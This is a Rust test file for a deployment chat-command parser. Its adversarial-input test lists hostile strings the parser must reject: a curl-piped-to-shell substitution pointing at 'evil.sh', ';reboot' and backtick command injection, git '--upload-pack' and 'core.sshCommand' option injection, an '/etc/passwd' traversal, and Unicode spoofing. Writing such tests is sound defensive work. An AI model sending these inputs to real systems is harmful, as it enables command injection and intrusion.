//! Grammar-wide tests: every example and reject in `commands/*.toml`,
//! adversarial inputs, and properties of the parser.

use proptest::prelude::*;

use super::*;
use crate::names::{AppName, EnvName};

fn vocabulary() -> Vocabulary {
    let envs = ["dev", "integration", "perf", "staging", "prod", "preview"];
    Vocabulary::new(
        envs.iter().map(|e| EnvName::new(e).unwrap()),
        ["web", "api"].iter().map(|a| AppName::new(a).unwrap()),
    )
}

fn grammar() -> Grammar {
    Grammar::builtin().unwrap()
}

fn parse(text: &str) -> Result<Command, ParseError> {
    grammar().parse(text, &vocabulary())
}

#[test]
fn every_example_parses_as_declared() {
    let grammar = grammar();
    let vocabulary = vocabulary();
    let mut count = 0;
    for spec in grammar.commands() {
        assert!(!spec.examples.is_empty(), "{} has no examples", spec.file);
        for example in &spec.examples {
            let parsed = match example.pull_request {
                Some(pr) => grammar.parse_for_pull_request(&example.text, pr, &vocabulary),
                None => grammar.parse(&example.text, &vocabulary),
            };
            let command =
                parsed.unwrap_or_else(|e| panic!("{}: `{}`: {e}", spec.file, example.text));
            assert_eq!(
                command.name(),
                spec.name,
                "{}: `{}`",
                spec.file,
                example.text
            );
            let got = serde_json::to_value(&command).unwrap();
            let want = serde_json::to_value(&example.expect).unwrap();
            assert_eq!(got, want, "{}: `{}`", spec.file, example.text);
            // The canonical text parses back to the same command.
            let again = grammar.parse(&command.to_string(), &vocabulary);
            if example.pull_request.is_none() {
                assert_eq!(again.as_ref(), Ok(&command), "{}: `{command}`", spec.file);
            }
            count += 1;
        }
    }
    assert!(count >= 30, "only {count} examples");
}

#[test]
fn every_reject_fails_with_its_message() {
    let grammar = grammar();
    let vocabulary = vocabulary();
    for spec in grammar.commands() {
        for reject in &spec.rejects {
            match grammar.parse(&reject.text, &vocabulary) {
                Ok(command) => panic!("{}: `{}` parsed as {command:?}", spec.file, reject.text),
                Err(e) => assert!(
                    e.to_string().contains(&reject.error),
                    "{}: `{}`: expected `{}` in: {e}",
                    spec.file,
                    reject.text,
                    reject.error
                ),
            }
        }
    }
}

#[test]
fn builtin_sources_match_the_commands_directory() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("commands");
    let mut on_disk: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| format!("commands/{}", e.unwrap().file_name().to_string_lossy()))
        .collect();
    on_disk.sort();
    let mut built_in: Vec<String> = BUILTIN_SOURCES.iter().map(|(f, _)| f.to_string()).collect();
    built_in.sort();
    assert_eq!(on_disk, built_in);
}

#[test]
fn adversarial_inputs_get_specific_errors() {
    let long = format!("deploy {} to dev", "a".repeat(10_000));
    let cases: Vec<(String, &str)> = vec![
        (long, "the limit is 512"),
        ("".into(), "no command given"),
        ("   \t ".into(), "no command given"),
        (
            "deplyo feat-x to dev".into(),
            "did you mean `deploy <ref> [of <app>] to <env> [--dry-run]`?",
        ),
        (
            "frobnicate".into(),
            "unknown command `frobnicate`; say `help`",
        ),
        (
            "deploy $(curl evil.sh|sh) to dev".into(),
            "found `evil.sh|sh)`",
        ),
        ("deploy `id` to dev".into(), "``` is not accepted in refs"),
        ("deploy feat-x;reboot to dev".into(), "`;` is not accepted"),
        (
            "deploy --upload-pack=evil to dev".into(),
            "has no flag `--upload-pack=evil`",
        ),
        ("deploy -c core.sshCommand=x to dev".into(), "expected `of`"),
        ("deploy -x to dev".into(), "starts with `-`"),
        ("deploy feat-x to ｄｅｖ".into(), "non-ASCII"),
        ("deploy feat-x to de\u{200b}v".into(), "\\u{200b}"),
        ("deploy feat-x to \u{202e}ved".into(), "\\u{202e}"),
        ("deploy fe\u{0430}t to dev".into(), "U+0430"),
        ("deploy feat\u{0}x to dev".into(), "U+0000"),
        ("deploy ../../etc/passwd to dev".into(), "`..`"),
        ("deploy .env to dev".into(), "starts with `.`"),
        (
            "deploy refs/heads/x.lock to dev".into(),
            "ends with `.lock`",
        ),
        ("deploy @{upstream} to dev".into(), "`@{`"),
        ("deploy HEAD~1 to dev".into(), "`~`"),
        (
            "cancel R-1; deploy x to prod".into(),
            "unexpected `deploy` at column 13",
        ),
        (
            "approve R-1; deploy x to prod".into(),
            "`R-1;` is not a request id",
        ),
        (
            "approve R-1 fine\u{200b}".into(),
            "control, bidi or zero-width characters, and this holds U+200B",
        ),
        (
            format!("deny R-1 {}", "x".repeat(201)),
            "free text is at most 200 characters, and this has 201",
        ),
        ("approve R-1;".into(), "request ids look like R-42"),
        ("“deploy” feat-x to dev".into(), "unknown command"),
        ("lock prod --force".into(), "`lock` has no flag `--force`"),
        (
            "status <!channel>".into(),
            "unknown environment `<!channel>`",
        ),
    ];
    for (text, want) in cases {
        let err = parse(&text).expect_err(&text);
        assert!(
            err.to_string().contains(want),
            "`{}`: expected `{want}` in: {err}",
            text.escape_debug()
        );
        assert!(err.to_string().len() < 800, "error too long for `{text}`");
    }
}

#[test]
fn pull_request_comments() {
    let grammar = grammar();
    let vocabulary = vocabulary();
    let parse = |body: &str| grammar.parse_comment(body, 7, &vocabulary);
    let deploy = parse("Looks good.\n/deploy staging").unwrap().unwrap();
    assert_eq!(deploy.to_string(), "deploy #7 to staging");
    let full = parse("/gantry promote from dev to staging")
        .unwrap()
        .unwrap();
    assert_eq!(full.to_string(), "promote from dev to staging");
    assert_eq!(parse("```\n/deploy prod\n```").unwrap(), None);
    assert_eq!(parse("> /deploy prod").unwrap(), None);
    let err = parse("/deploy").unwrap_err().to_string();
    assert!(err.contains("missing"), "{err}");
    // The short form exists only in pull requests.
    assert!(grammar.parse("deploy staging", &vocabulary).is_err());
}

#[test]
fn grammar_errors_name_the_file() {
    let mut sources: Vec<(&str, &str)> = BUILTIN_SOURCES.to_vec();
    let check = |sources: &[(&str, &str)], want: &str| {
        let err = Grammar::compile(sources).unwrap_err().to_string();
        assert!(err.contains(want), "expected `{want}` in: {err}");
    };
    // A missing command.
    check(&sources[1..], "no grammar file declares `deploy`");
    // Two commands claiming one word.
    let lock_alias = "command = \"lock\"\nsummary = \"x\"\naliases = [\"ship\"]\npatterns = [\"lock {env}\"]\nhelp = \"x\"\n";
    sources[7] = ("commands/lock.toml", lock_alias);
    check(
        &sources,
        "commands/lock.toml: the word `ship` already starts `deploy`",
    );
    // Overlapping patterns.
    sources[7] = (
        "commands/lock.toml",
        "command = \"lock\"\nsummary = \"x\"\npatterns = [\"lock {env}\", \"lock {env} {reason}\", \"lock {env} now\"]\nhelp = \"x\"\n",
    );
    check(&sources, "overlap");
    // A pattern that does not compile.
    sources[7] = (
        "commands/lock.toml",
        "command = \"lock\"\nsummary = \"x\"\npatterns = [\"lock {env\"]\nhelp = \"x\"\n",
    );
    check(&sources, "commands/lock.toml: pattern `lock {env`");
    // Unknown keys, with a line number.
    sources[7] = ("commands/lock.toml", "command = \"lock\"\nsummary = \"x\"\npatterns = [\"lock {env}\"]\nhelp = \"x\"\ncolour = 1\n");
    check(
        &sources,
        "commands/lock.toml: line 5: unknown field `colour`",
    );
    // A slot the command does not have, and a missing required one.
    sources[7] = (
        "commands/lock.toml",
        "command = \"lock\"\nsummary = \"x\"\npatterns = [\"lock {env} {app}\"]\nhelp = \"x\"\n",
    );
    check(&sources, "`lock` has no slot `app`");
    sources[7] = (
        "commands/lock.toml",
        "command = \"lock\"\nsummary = \"x\"\npatterns = [\"lock\"]\nhelp = \"x\"\n",
    );
    check(&sources, "lacks the required slot `{env}`");
    sources[7] = (
        "commands/lock.toml",
        "command = \"lock\"\nsummary = \"x\"\npatterns = [\"unlock {env}\"]\nhelp = \"x\"\n",
    );
    check(&sources, "must start with `lock`");
    // A pattern fills the slots of one shape, not a mix of two.
    sources[2] = (
        "commands/rollback.toml",
        "command = \"rollback\"\nsummary = \"x\"\npatterns = [\"rollback {id} in {env}\"]\nhelp = \"x\"\n",
    );
    check(
        &sources,
        "commands/rollback.toml: pattern `rollback {id} in {env}`",
    );
}

/// Asks the real git whether it accepts `name` as a branch name.
fn git_accepts_branch(name: &str) -> bool {
    std::process::Command::new("git")
        .args(["check-ref-format", "--branch", name])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics_on_any_text(text in "\\PC{0,600}") {
        let _ = parse(&text);
    }

    #[test]
    fn never_panics_on_grammar_soup(words in proptest::collection::vec(
        "deploy|to|of|from|in|dev|prod|web|R-1|#1|--dry-run|\"|“|”|-x|\u{200b}|ship|help|lock|[a-z./~^:@{}-]{1,6}", 0..12)) {
        let text = words.join(" ");
        let _ = parse(&text);
        let _ = grammar().parse_comment(&format!("/gantry {text}"), 1, &vocabulary());
    }

    #[test]
    fn canonical_text_round_trips(
        reference in "[a-z][a-z0-9/._-]{0,20}[a-z0-9]|[0-9a-f]{7,40}|#[1-9][0-9]{0,5}",
        env in "dev|integration|perf|staging|prod|preview",
        app in proptest::option::of("web|api"),
        dry_run in any::<bool>(),
        reason in proptest::option::of("[a-zA-Z0-9 ,.:;!?'-]{1,40}"),
        id in 1u64..1_000_000,
    ) {
        let vocab = vocabulary();
        let reference = match GitRef::parse(&reference) {
            Ok(r) => r,
            Err(_) => return Ok(()), // e.g. `a..b`: covered by the ref tests
        };
        let env = vocab.env(&env).unwrap().clone();
        let app = app.map(|a| vocab.app(&a).unwrap().clone());
        let commands = [
            Command::Deploy { reference: reference.clone(), app: app.clone(), env: env.clone(), dry_run },
            Command::Build { reference, app: app.clone() },
            Command::Deny { id: crate::names::RequestId(id), reason: reason.clone() },
            Command::Lock { env: env.clone(), reason },
            Command::Promote { app, from: env.clone(), to: env, dry_run },
            Command::RollbackRequest { id: crate::names::RequestId(id) },
            Command::Complete { id: crate::names::RequestId(id) },
        ];
        for command in commands {
            prop_assert_eq!(parse(&command.to_string()), Ok(command.clone()), "{}", command);
        }
    }

    #[test]
    fn never_accepts_a_ref_git_rejects(name in "[a-zA-Z0-9./@{}~^:?*\\[\\\\ #;-]{1,12}") {
        let parsed = parse(&format!("deploy {name} to dev"));
        if let Ok(Command::Deploy {
            reference: GitRef::Name(text) | GitRef::ShortSha(text) | GitRef::FullSha(text),
            ..
        }) = parsed
        {
            prop_assert!(git_accepts_branch(&text), "accepted `{}` but git rejects it", text);
        }
    }
}
